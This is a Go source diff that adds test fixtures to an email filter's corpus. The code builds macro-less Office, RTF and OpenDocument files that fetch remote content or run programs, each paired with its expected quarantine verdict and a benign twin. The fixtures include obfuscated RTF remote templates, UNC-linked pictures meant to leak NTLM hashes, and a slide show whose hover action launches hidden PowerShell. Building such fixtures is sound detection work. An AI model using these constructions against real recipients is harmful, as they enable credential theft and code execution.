@@ -1,0 +1,214 @@
+package corpus
+
+import (
+	"encoding/hex"
+	"strings"
+
+	"github.com/kensa-milter/kensa/internal/corpus/formats"
+	"github.com/kensa-milter/kensa/policy"
+)
+
+// Office documents that fetch or run something from elsewhere without a
+// macro, written the ways Office and LibreOffice read them: RTF templates,
+// fields and linked pictures behind RTF's obfuscations, linked OLE1
+// objects, Excel external links and web queries, OpenDocument linked
+// sheets and sections, PowerPoint actions that run a program. Each has an
+// honest twin among officeLinkClean: an ordinary hyperlink, a picture
+// linked from the intranet, a workbook linked to another on a local drive,
+// a slide hyperlink to a web page.
+
+// rtfLinkedObject is an RTF document with an OLE1 linked object
+// (\objautlink: Word updates it as it opens the document) of class
+// Excel.Sheet.12 whose source is topic.
+func rtfLinkedObject(text, topic string) []byte {
+	h := hex.EncodeToString(formats.OLE1Linked("Excel.Sheet.12", topic, "Sheet1!R1C1:R4C2", ""))
+	var b strings.Builder
+	for i := 0; i < len(h); i += 64 {
+		b.WriteString(h[i:min(i+64, len(h))] + "\r\n")
+	}
+	return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}` + "\r\n" + `\pard ` + text + `\par` + "\r\n" +
+		`{\object\objautlink\rsltpict\objw2000\objh800{\*\objclass Excel.Sheet.12}{\*\objdata ` + "\r\n" + b.String() + `}{\result {\pict\wmetafile8 0100}}}` + "\r\n}")
+}
+
+// rtfShapePicture is an RTF document with a picture frame shape (type 75)
+// whose picture is linked from name (pibName) with pibFlags flags, as Word
+// writes a picture inserted with "Link to File".
+func rtfShapePicture(text, name string, flags int) []byte {
+	return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard ` + text + `\par` + "\r\n" +
+		`{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000\shpwr3\shpwrk0\shpfblwtxt0\shpz0` +
+		`{\sp{\sn shapeType}{\sv 75}}{\sp{\sn fFlipH}{\sv 0}}{\sp{\sn pibName}{\sv ` + name + `}}{\sp{\sn pibFlags}{\sv ` + itoa(flags) + `}}` +
+		`{\sp{\sn fLine}{\sv 0}}}{\shprslt {\pard x\par}}}` + "\r\n}")
+}
+
+// pptxOf is a one-slide presentation (a slide show, .ppsx, when show)
+// whose slide holds shapes (p:sp elements) and whose slide relationships
+// are rels, with the master and layout PowerPoint needs.
+func pptxOf(shapes, rels string, show bool) []byte {
+	const (
+		p = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + officeRel + `" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
+		t = `<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>`
+	)
+	main := "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+	if show {
+		main = "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"
+	}
+	ct := xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
+		`<Override PartName="/ppt/presentation.xml" ContentType="` + main + `"/>` +
+		`<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>` +
+		`<Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/>` +
+		`<Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/></Types>`
+	relsOf := func(r string) []byte {
+		return []byte(xmlHead + `<Relationships xmlns="` + relsNS + `">` + r + `</Relationships>`)
+	}
+	rel := func(id, typ, target string) string {
+		return `<Relationship Id="` + id + `" Type="` + officeRel + `/` + typ + `" Target="` + target + `"/>`
+	}
+	return zipOf(
+		file{"[Content_Types].xml", []byte(ct)},
+		file{"_rels/.rels", relsOf(rel("rId1", "officeDocument", "ppt/presentation.xml"))},
+		file{"ppt/presentation.xml", []byte(xmlHead + `<p:presentation ` + p + `><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>` +
+			`<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`)},
+		file{"ppt/_rels/presentation.xml.rels", relsOf(rel("rId1", "slideMaster", "slideMasters/slideMaster1.xml") + rel("rId2", "slide", "slides/slide1.xml"))},
+		file{"ppt/slides/slide1.xml", []byte(xmlHead + `<p:sld ` + p + `>` + t + shapes + `</p:spTree></p:cSld></p:sld>`)},
+		file{"ppt/slides/_rels/slide1.xml.rels", relsOf(rel("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml") + rels)},
+		file{"ppt/slideLayouts/slideLayout1.xml", []byte(xmlHead + `<p:sldLayout ` + p + `>` + t + `</p:spTree></p:cSld></p:sldLayout>`)},
+		file{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", relsOf(rel("rId1", "slideMaster", "../slideMasters/slideMaster1.xml"))},
+		file{"ppt/slideMasters/slideMaster1.xml", []byte(xmlHead + `<p:sldMaster ` + p + `>` + t + `</p:spTree></p:cSld>` +
+			`<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>` +
+			`<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`)},
+		file{"ppt/slideMasters/_rels/slideMaster1.xml.rels", relsOf(rel("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"))},
+	)
+}
+
+// slideShape is a text box shape whose non-visual properties hold link
+// (a:hlinkClick or a:hlinkHover elements).
+func slideShape(id int, text, link string) string {
+	return `<p:sp><p:nvSpPr><p:cNvPr id="` + itoa(id) + `" name="Shape ` + itoa(id) + `">` + link + `</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>` +
+		`<p:spPr><a:xfrm><a:off x="457200" y="` + itoa(id*1000000) + `"/><a:ext cx="8229600" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>` +
+		`<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US" sz="4000"/><a:t>` + xmlEscape(text) + `</a:t></a:r></a:p></p:txBody></p:sp>`
+}
+
+// hyperlinkRel is an External hyperlink relationship.
+func hyperlinkRel(id, target string) string {
+	return `<Relationship Id="` + id + `" Type="` + officeRel + `/hyperlink" Target="` + xmlEscape(target) + `" TargetMode="External"/>`
+}
+
+// connectionsPart is an xl/connections.xml holding conn.
+func connectionsPart(conn string) docxPart {
+	return docxPart{name: "xl/connections.xml", ctype: "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
+		relType: officeRel + "/connections", relID: "rId6",
+		data: []byte(xmlHead + `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + conn + `</connections>`)}
+}
+
+// webQuery is a web query connection (Data > From Web, the legacy kind)
+// to url, refreshed as the workbook opens when onOpen.
+func webQuery(url string, onOpen bool) string {
+	refresh := ""
+	if onOpen {
+		refresh = ` refreshOnLoad="1"`
+	}
+	return `<connection id="1" name="Connection" type="4" refreshedVersion="8" background="1" saveData="1"` + refresh + `>` +
+		`<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="` + xmlEscape(url) + `" htmlTables="1"/></connection>`
+}
+
+const (
+	ctPptx = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
+	ctPpsx = "application/vnd.openxmlformats-officedocument.presentationml.slideshow"
+)
+
+// odsLinked is a spreadsheet as LibreOffice saves one with an external
+// reference (an Excel external link opened and saved): a formula naming
+// the other file, and the sheet it caches, linked with table:table-source.
+func odsLinked(target string) []byte {
+	esc := xmlEscape(target)
+	return odf(ctOds, `<office:spreadsheet><table:table table:name="Summary"><table:table-row>`+
+		`<table:table-cell table:formula="of:=[&apos;`+esc+`&apos;#$Sheet1.B9]" office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell></table:table-row></table:table>`+
+		`<table:table table:name="&apos;`+esc+`&apos;#Sheet1" table:print="false"><table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="`+esc+`" table:table-name="Sheet1" table:mode="copy-results-only"/>`+
+		`<table:table-row><table:table-cell office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)
+}
+
+// officeLinkCases are the documents, in the three wrappings of officeCases.
+func officeLinkCases() []officeCase {
+	return []officeCase{
+		{name: "rtf-template-obfuscated", about: "RTF whose {\\*\\template} loads a remote template, its address broken up the ways Word still reads: an unknown ignorable destination inside it, \\uN with its fallback character, an empty group",
+			action: policy.Quarantine, subject: "Letter", body: "The letter.\n", ctype: "application/rtf", file: "letter.rtf",
+			data:  []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template h{\*\kensajunk zz}tt\u112?s://templates.example.net/{}letter.dotm}\pard Dear customer,\par}`),
+			wants: []relWant{{"heuristic", "remote-template", ""}}},
+		{name: "rtf-includetext-obfuscated", about: "RTF whose INCLUDETEXT field pulls a document from the web, the field's name and address broken by ignorable destinations (a bookmark start inside the host)",
+			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: "application/rtf", file: "terms.rtf",
+			data:  []byte(`{\rtf1\ansi\deff0\pard Terms{\field{\*\fldinst INCLU{\*\kensajunk q}DETEXT "https://files.exa{\*\bkmkstart t}mple.net/terms.rtf" \\* MERGEFORMAT}{\fldrslt terms}}\par}`),
+			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
+		{name: "rtf-shape-linked-picture-unc", about: "RTF with a picture shape whose picture is linked, not stored (pibName on an SMB share of an Internet host, pibFlags with msoblipflagLinkToFile): Word loads it as it shows the page, sending the NTLM hash",
+			action: policy.Quarantine, subject: "Floor plan", body: "The floor plan.\n", ctype: "application/rtf", file: "plan.rtf",
+			data:  rtfShapePicture("Floor plan", `\\\\`+leakHost+`\\share\\plan.png`, 10),
+			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
+		{name: "rtf-linked-object-unc", about: "RTF with a linked OLE1 object (\\objautlink: updated as Word opens it) whose source workbook is on a WebDAV share of an Internet host",
+			action: policy.Quarantine, subject: "Figures", body: "The figures.\n", ctype: "application/rtf", file: "figures.rtf",
+			data:  rtfLinkedObject("Figures", `\\files.example.net@SSL@443\DavWWWRoot\figures.xlsx`),
+			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
+		{name: "rtf-linked-object-web", about: "RTF with a linked OLE1 object (\\objautlink) whose source is a web address: Word fetches it as it updates the link",
+			action: policy.Quarantine, subject: "Figures", body: "The figures.\n", ctype: "application/rtf", file: "figures.rtf",
+			data:  rtfLinkedObject("Figures", "https://files.example.net/figures.xlsx"),
+			wants: []relWant{{"heuristic", "remote-template", ""}}},
+		{name: "xlsx-external-link-webdav", about: "xlsx whose external reference (externalLinkPath) names a workbook on a WebDAV share of an Internet host (\\\\host@SSL@443\\DavWWWRoot)",
+			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: ctXlsx, file: "summary.xlsx",
+			data:  xlsxOf([][]string{{"Total", "5"}}, nil, `\\files.example.net@SSL@443\DavWWWRoot\budget.xlsx`),
+			wants: []relWant{{"heuristic", "remote-fetch", "/xl/externalLinks/_rels/externalLink1.xml.rels"}}},
+		{name: "xlsx-web-query-on-open", about: "xlsx with a web query connection (xl/connections.xml webPr url) refreshed as the workbook opens: what the page holds lands in the cells",
+			action: policy.Tag, subject: "Rates", body: "Today's rates.\n", ctype: ctXlsx, file: "rates.xlsx",
+			data:  xlsxOf([][]string{{"Rate", "1"}}, nil, "", connectionsPart(webQuery("http://rates.example.net/today.html", true))),
+			wants: []relWant{{"heuristic", "power-query-fetch", "/xl/connections.xml"}}},
+		{name: "ods-linked-sheet-unc", about: "OpenDocument spreadsheet as LibreOffice saves an Excel external link: a formula referring to a workbook on file://host (an Internet host's SMB share) and the linked sheet caching it (table:table-source)",
+			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: ctOds, file: "summary.ods",
+			data:  odsLinked("file://" + leakHost + "/share/budget.xlsx"),
+			wants: []relWant{{"heuristic", "remote-fetch", "/content.xml"}}},
+		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
+			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
+			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
+				`<text:p>Loading</text:p></text:section></office:text>`),
+			wants: []relWant{{"heuristic", "remote-fetch", "/content.xml"}}},
+		{name: "ppsx-hover-program", about: "slide show (.ppsx, opens in the slide show) whose title runs PowerShell when the mouse passes over it (a:hlinkHover, ppaction://program, the command URL-escaped in its hyperlink relationship)",
+			action: policy.Quarantine, subject: "Presentation", body: "The presentation for Monday.\n", ctype: ctPpsx, file: "presentation.ppsx",
+			data: pptxOf(slideShape(2, "Loading...", `<a:hlinkHover r:id="rId5" action="ppaction://program" highlightClick="1"/>`),
+				hyperlinkRel("rId5", `powershell.exe%20-nop%20-w%20hidden%20-c%20notepad.exe`), true),
+			wants: []relWant{{"heuristic", "ppt-program-action", "/ppt/slides/slide1.xml"}}},
+		{name: "pptx-click-program", about: "presentation whose button runs cmd.exe on a click in the slide show (a:hlinkClick, ppaction://program, a file: URL to the program)",
+			action: policy.Quarantine, subject: "Demo", body: "The demo.\n", ctype: ctPptx, file: "demo.pptx",
+			data: pptxOf(slideShape(2, "Start the demo", `<a:hlinkClick r:id="rId5" action="PPAction://program"/>`),
+				hyperlinkRel("rId5", `file:///C:\Windows\System32\cmd.exe`), false),
+			wants: []relWant{{"heuristic", "ppt-program-action", "/ppt/slides/slide1.xml"}}},
+	}
+}
+
+// officeLinkClean are the honest twins.
+func officeLinkClean() []Sample {
+	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
+	var out []Sample
+	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
+	colleague := "Aiko Sato <aiko@corp.example.jp>"
+	add(ok("rtf-hyperlink", "an RTF letter with an ordinary HYPERLINK field to a web page"),
+		mail{subject: "Letter", root: multipart("mixed", text("The letter.\n"),
+			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0\pard Visit {\field{\*\fldinst HYPERLINK "https://www.example.com/"}{\fldrslt our site}}\par}`)))})
+	add(ok("rtf-shape-picture-intranet", "an RTF letter whose picture is linked from the intranet file server (a single-label name), as Word writes Link to File"),
+		mail{from: colleague, subject: "Letter", root: multipart("mixed", text("The letter with the letterhead.\n"),
+			attach("application/rtf", "letter.rtf", rtfShapePicture("Letterhead", `\\\\fileserver\\templates\\letterhead.png`, 10)))})
+	add(ok("rtf-linked-object-local", "an RTF report whose linked workbook (\\objautlink) is on the author's own drive"),
+		mail{from: colleague, subject: "Report", root: multipart("mixed", text("The report with the figures linked.\n"),
+			attach("application/rtf", "report.rtf", rtfLinkedObject("Report", `C:\Users\aiko\Documents\figures.xlsx`)))})
+	add(ok("xlsx-external-link-local", "a workbook whose formulas refer to another workbook on the author's local drive (externalLinkPath file:///C:/...)"),
+		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary; the figures come from my budget workbook.\n"),
+			attach(ctXlsx, "summary.xlsx", xlsxOf([][]string{{"Total", "=[1]Sheet1!B9"}}, nil, `file:///C:\Users\aiko\Documents\budget.xlsx`)))})
+	add(ok("xlsx-web-query-by-hand", "a workbook with a web query to a rates page, refreshed by hand (no refresh on open)"),
+		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Refresh the rates with Data > Refresh.\n"),
+			attach(ctXlsx, "rates.xlsx", xlsxOf([][]string{{"Rate", "1"}}, nil, "", connectionsPart(webQuery("https://www.example.com/rates.html", false)))))})
+	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
+		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
+			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
+	add(ok("pptx-web-hyperlink", "a presentation whose slide links to a web page on click and shows a tip on mouse-over (no action)"),
+		mail{subject: "Presentation", root: multipart("mixed", text("The slides.\n"),
+			attach(ctPptx, "slides.pptx", pptxOf(slideShape(2, "Our products", `<a:hlinkClick r:id="rId5"/>`)+
+				slideShape(3, "Next slide", `<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkHover r:id="rId6" tooltip="Read more"/>`),
+				hyperlinkRel("rId5", "https://www.example.com/products")+hyperlinkRel("rId6", "https://www.example.com/"), false)))})
+	return out
+}
